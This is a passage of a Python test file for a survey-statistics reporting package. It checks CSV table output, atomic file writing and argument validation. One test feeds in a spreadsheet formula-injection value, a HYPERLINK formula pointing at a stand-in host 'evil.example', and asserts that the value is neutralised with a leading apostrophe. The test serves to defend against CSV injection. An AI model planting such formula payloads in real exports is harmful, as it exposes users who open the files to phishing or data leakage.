        str(tmp_path / "e.csv"),
        "--spec",
        str(tmp_path / "s.toml"),
        "--include-free-text",
        "--output",
        str(out),
        "--csv",
        "--format",
        "markdown",
    ]
    assert main(argv) == 0
    tables = sorted(p.name for p in (out / "tables").iterdir())
    assert "free-text-changes.csv" in tables
    assert "motives-motives.csv" in tables
    text = (out / "tables" / "free-text-changes.csv").read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Réponse", "Effectif"]
    cells = [r[0] for r in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example","x")' in cells
    assert not any(c.startswith("=") for c in cells)
    leavers = list(
        csv.reader(
            io.StringIO((out / "tables" / "motives-motives.csv").read_text("utf-8-sig"), newline="")
        )
    )
    first = leavers[1]
    assert first[1:3] == ["43", "50"]
    assert math.isclose(float(first[3]), 86.0)  # percent, unrounded


def test_write_report_csv_is_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import optamstats.disclosure as disclosure
    from optamstats.report import build_report, write_report

    calls = {"n": 0}
    original = disclosure.write_safe_csv

    def failing(frame: pd.DataFrame, path: Any, **kwargs: Any) -> Path:
        calls["n"] += 1
        if calls["n"] == 3:
            raise OSError("disk full")
        return original(frame, path, **kwargs)

    monkeypatch.setattr(disclosure, "write_safe_csv", failing)
    report = build_report(lang="en")
    with pytest.raises(OSError, match="disk full"):
        write_report(report, tmp_path / "out", "text", csv=True)
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(InvalidTypeError, match=r"`csv` must be True or False; got 'yes'"):
        write_report(report, tmp_path / "out", "text", csv="yes")  # type: ignore[arg-type]


def test_build_report_rejects_bad_flags() -> None:
    from optamstats.report import build_report

    with pytest.raises(InvalidTypeError, match=r"`disclosure_control` must be True or False"):
        build_report(disclosure_control="no")  # type: ignore[arg-type]
    with pytest.raises(InvalidTypeError, match=r"`include_free_text` must be True or False"):
        build_report(include_free_text=1)  # type: ignore[arg-type]
    with pytest.raises(InvalidValueError, match=r"`min_cell` must be a whole number"):
        build_report(min_cell=1)
